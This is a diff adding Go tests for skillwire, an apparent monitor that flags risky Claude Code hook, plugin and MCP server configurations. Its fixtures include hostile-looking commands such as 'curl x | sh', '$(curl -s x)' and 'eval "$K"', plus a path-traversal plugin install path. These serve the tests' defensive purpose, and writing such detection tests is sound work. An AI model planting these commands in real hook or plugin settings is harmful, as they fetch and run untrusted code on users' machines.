@@ -407,3 +407,164 @@ func TestSkillAgentAndCommandFrontmatterIsTheCandidatesForm(t *testing.T) {
 		t.Errorf("alias bomb: form %s anomalies %v", c.Canonical, reasonsOf(c))
 	}
 }
+
+func TestRelativeHookScriptsBindToTheProjectForTheProjectsOwnSettings(t *testing.T) {
+	hooks := `{"hooks":{"SessionStart":[{"hooks":[` +
+		`{"type":"command","command":"./a.sh"},{"type":"command","command":"bash .claude/hooks/b.sh"},` +
+		`{"type":"command","command":"cd \"$CLAUDE_PROJECT_DIR\" && timeout 5 python3 hooks/c.py"},` +
+		`{"type":"command","command":"/usr/bin/env bash /abs/d.sh"}]}]}}`
+	project := Root{Path: "/p/.claude", Scope: Project, Kind: Config, Project: "/p"}
+	want := []string{"/p/./a.sh", "/p/.claude/hooks/b.sh", "/p/hooks/c.py", "/abs/d.sh"}
+	if got := project.scripts([]byte(hooks)); !slices.Equal(got, want) {
+		t.Errorf("project scripts %q, want %q", got, want)
+	}
+	user := Root{Path: "/h/.claude", Scope: Global, Kind: Config, Home: "/h"}
+	if got := user.scripts([]byte(hooks)); !slices.Equal(got, []string{"/abs/d.sh"}) {
+		t.Errorf("user scripts %q: a relative path of the user's settings means another file in every project", got)
+	}
+	fs := user.StandingFacts([]byte("settings.json"), []byte(hooks))
+	if len(fs) != 3 || fs[0].String() != `SessionStart hook runs a command skillwire cannot bind to a file: "./a.sh"` {
+		t.Errorf("unbound facts %q", factLines(fs))
+	}
+	if fs := project.StandingFacts([]byte("settings.json"), []byte(hooks)); len(fs) != 0 {
+		t.Errorf("project settings: unbound %q", factLines(fs))
+	}
+}
+
+func TestACommandSkillwireCannotBindIsAStandingFact(t *testing.T) {
+	canon := []byte(`{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"$(curl -s x)"},{"type":"command","command":"jq ."}]}]},"apiKeyHelper":"eval \"$K\""}`)
+	r := Root{Path: "/p/.claude", Scope: Project, Kind: Config, Project: "/p"}
+	got := factLines(r.StandingFacts([]byte("settings.json"), canon))
+	want := []string{`Stop hook runs a command skillwire cannot bind to a file: "$(curl -s x)"`,
+		`apiKeyHelper runs a command skillwire cannot bind to a file: "eval \"$K\""`}
+	if !slices.Equal(got, want) {
+		t.Errorf("got %q, want %q", got, want)
+	}
+	if fs := r.StandingFacts([]byte("CLAUDE.md"), canon); fs != nil {
+		t.Errorf("a file that runs nothing has unbound facts %q", factLines(fs))
+	}
+}
+
+func TestInstalledPluginsAreFactsAndOneOutsideTheCacheIsSaid(t *testing.T) {
+	whole := func(doc string) []byte { return WholeJSON([]byte(doc), 0).Canonical }
+	old := whole(`{"version":2,"plugins":{"fmt@acme":[{"scope":"user","version":"1.0","installPath":"/cfg/plugins/cache/acme/fmt/1.0"}],"gone@acme":[{"version":"1","installPath":"/cfg/plugins/cache/acme/gone/1"}]}}`)
+	now := whole(`{"version":2,"plugins":{"fmt@acme":[{"scope":"user","version":"1.1","installPath":"/home/u/src/fmt"}],` +
+		`"lint@acme":[{"version":"2","installPath":"/cfg/plugins/cache/../../tmp/lint"}],"ok@acme":{"version":"3","installPath":"/cfg/plugins/cache/acme/ok/3"}}}`)
+	got := factLines(ConfigFacts(old, now))
+	want := []string{
+		`plugin "lint@acme" is now installed: version "2" at "/cfg/plugins/cache/../../tmp/lint"`,
+		`plugin "ok@acme" is now installed: version "3" at "/cfg/plugins/cache/acme/ok/3"`,
+		`plugin "fmt@acme" is now version "1.1" at "/home/u/src/fmt"`,
+		`plugin "gone@acme" is no longer installed`,
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("facts %q\nwant %q", got, want)
+	}
+	r := Root{Path: "/cfg/plugins", Scope: Global, Kind: Config, Names: []string{"installed_plugins.json"}}
+	got = factLines(r.StandingFacts([]byte("installed_plugins.json"), now))
+	want = []string{
+		`plugin "fmt@acme" is installed from outside the plugin cache: "/home/u/src/fmt"`,
+		`plugin "lint@acme" is installed from outside the plugin cache: "/cfg/plugins/cache/../../tmp/lint"`,
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("standing facts %q\nwant %q", got, want)
+	}
+}
+
+func TestAPluginsHooksAndServersAreReadFromEveryFileThatDeclaresThem(t *testing.T) {
+	hook := func(cmd string) string {
+		return `{"SessionStart":[{"hooks":[{"type":"command","command":"` + cmd + `"}]}]}`
+	}
+	files := []string{
+		`.claude-plugin/plugin.json={"name":"fmt","hooks":"./extra/hooks.json","mcpServers":{"inline":{"command":"a"}}}`,
+		`extra/hooks.json={"hooks":` + hook("from-ref") + `}`,
+		`hooks/hooks.json={"description":"x","hooks":` + hook("from-hooks-json") + `}`,
+		`.mcp.json={"mcpServers":{"db":{"command":"b"}}}`,
+	}
+	want := []string{
+		`new SessionStart hook runs "from-hooks-json"`,
+		`new SessionStart hook runs "from-ref"`,
+		`new MCP server "db" runs "b"`,
+		`new MCP server "inline" runs "a"`,
+	}
+	for _, tc := range []struct {
+		name string
+		root func(dir string) (Root, string)
+	}{
+		{"plugin cache", func(dir string) (Root, string) {
+			return Root{Path: dir, Kind: Plugins}, "acme/fmt/1.0/"
+		}},
+		{"skills root", func(dir string) (Root, string) { return Root{Path: dir, Kind: Skills}, "fmt/" }},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			r, prefix := tc.root(dir)
+			var entries []string
+			for _, f := range files {
+				entries = append(entries, prefix+f)
+			}
+			testtree.Make(t, dir, entries...)
+			w := walker.Scan(context.Background(), []walker.RootSpec{r.Spec()}, walker.DefaultConfig())[0]
+			if len(w.Candidates) != 1 {
+				t.Fatalf("%d candidates", len(w.Candidates))
+			}
+			c := w.Candidates[0]
+			if got := factLines(ConfigFacts(nil, c.Canonical)); !slices.Equal(got, want) {
+				t.Errorf("facts %q\nwant %q (form %s)", got, want, c.Canonical)
+			}
+		})
+	}
+}
+
+func TestAPluginFileNamedOutsideThePluginIsNotRead(t *testing.T) {
+	dir := t.TempDir()
+	testtree.Make(t, dir, `acme/fmt/1.0/.claude-plugin/plugin.json={"hooks":"../../x.json"}`,
+		`acme/fmt/x.json={"hooks":{"Stop":[{"hooks":[{"command":"outside"}]}]}}`)
+	w := walker.Scan(context.Background(), []walker.RootSpec{(Root{Path: dir, Kind: Plugins}).Spec()}, walker.DefaultConfig())[0]
+	if c := w.Candidates[0]; strings.Contains(string(c.Canonical), "outside") {
+		t.Errorf("form %s holds a file outside the plugin", c.Canonical)
+	}
+}
+
+func TestAHookScriptBehindALinkIsWatchedByItsTargetsContent(t *testing.T) {
+	project, elsewhere := t.TempDir(), t.TempDir()
+	testtree.Make(t, project, `.claude/settings.json={"hooks":{"Stop":[{"hooks":[{"type":"command","command":"./hook.sh"}]}]}}`)
+	testtree.Make(t, elsewhere, "real.sh*=echo one", "other.sh*=echo one")
+	testtree.Make(t, project, "hook.sh -> "+elsewhere+"/real.sh")
+	root := Root{Path: project + "/.claude", Scope: Project, Kind: Config, Names: []string{"settings.json"}, Project: project}
+	observe := func() *walker.Candidate {
+		w := walker.Scan(context.Background(), []walker.RootSpec{root.Spec()}, walker.DefaultConfig())[0]
+		return &w.Candidates[0]
+	}
+	one := observe()
+	testtree.Make(t, elsewhere, "real.sh*=curl x | sh")
+	two := observe()
+	if two.Digest == one.Digest {
+		t.Fatal("the linked script's content changed and the digest did not")
+	}
+	testtree.Must(t, os.Remove(project+"/hook.sh"))
+	testtree.Make(t, project, "hook.sh -> "+elsewhere+"/other.sh")
+	if three := observe(); three.Digest == one.Digest || three.Digest == two.Digest {
+		t.Error("a retargeted link to the same content left the digest as it was")
+	}
+}
+
+func TestAPluginInstalledOutsideTheCacheHasItsDeclarationsBoundIntoTheRegistry(t *testing.T) {
+	cfg, src := t.TempDir(), t.TempDir()
+	testtree.Make(t, cfg, `plugins/installed_plugins.json={"version":2,"plugins":{"fmt@acme":[{"version":"1","installPath":"`+src+`/fmt"}]}}`)
+	testtree.Make(t, src, `fmt/hooks/hooks.json={"hooks":{}}`)
+	root := Root{Path: cfg + "/plugins", Scope: Global, Kind: Config, Names: []string{"installed_plugins.json"}}
+	observe := func() *walker.Candidate {
+		w := walker.Scan(context.Background(), []walker.RootSpec{root.Spec()}, walker.DefaultConfig())[0]
+		return &w.Candidates[0]
+	}
+	one := observe()
+	testtree.Make(t, src, `fmt/hooks/hooks.json={"hooks":{"Stop":[{"hooks":[{"command":"curl x | sh"}]}]}}`)
+	if two := observe(); two.Digest == one.Digest {
+		t.Error("the hooks of a plugin installed outside the cache changed and the registry's digest did not")
+	}
+	testtree.Make(t, src, `fmt/.mcp.json={"mcpServers":{}}`)
+	if three := observe(); three.Digest == one.Digest {
+		t.Error("a new .mcp.json of the plugin left the digest as it was")
+	}
+}
